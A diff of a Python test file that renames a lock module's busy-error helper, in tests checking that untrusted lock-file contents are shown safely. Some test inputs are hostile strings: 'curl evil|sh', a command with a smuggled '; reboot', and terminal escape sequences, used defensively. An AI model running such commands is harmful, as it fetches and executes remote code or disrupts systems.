@@ -363,7 +363,7 @@ def test_a_device_that_takes_a_trial_back_is_seen(store, root):
     ],
 )
 def test_a_device_that_answers_nonsense_is_busy(words):
-    fault = lock._busy("local", words)
+    fault = lock._busy_error("local", words)
     assert fault.message.startswith("local is busy: ")
     assert len(fault.message) + len(fault.details) < 2500
 
@@ -479,18 +479,18 @@ def test_a_sign_of_life_is_never_seen_half(outer, root):
 def test_times_that_cannot_be_are_not_told():
     """A device's clock, or whoever wrote its lock's file, may say anything."""
     for began in ("400", "0"):
-        fault = lock._busy("local", ["busy", "1", "0" if began == "400" else "99999999", f"{began} ann@desk"])
+        fault = lock._busy_error("local", ["busy", "1", "0" if began == "400" else "99999999", f"{began} ann@desk"])
         assert "for " not in fault.details, fault.details
         assert fault.details.startswith("the last sign of life came 1 s ago")
 
 
 @pytest.mark.parametrize("end", ["curl evil|sh", "toolchain farm release a; reboot", "toolchain farm release -x"])
 def test_a_command_that_is_none_of_ours_is_not_told(end):
-    fault = lock._busy("local", ["busy", "1", "5", f"3 ann@desk\ttune\t{end}"])
+    fault = lock._busy_error("local", ["busy", "1", "5", f"3 ann@desk\ttune\t{end}"])
     assert fault.hint == "run the command again when that has ended, or with --wait SECONDS"
 
 
 def test_the_words_of_an_owner_steer_no_terminal():
-    fault = lock._busy("local", ["busy", "1", "5", "3 ann\x1b[2J\ttune \x1b]0;x\x07"])
+    fault = lock._busy_error("local", ["busy", "1", "5", "3 ann\x1b[2J\ttune \x1b]0;x\x07"])
     assert fault.message == "local is busy: in use by ann\\x1b[2J: tune \\x1b]0;x\\x07"
     assert "\x1b" not in fault.owner
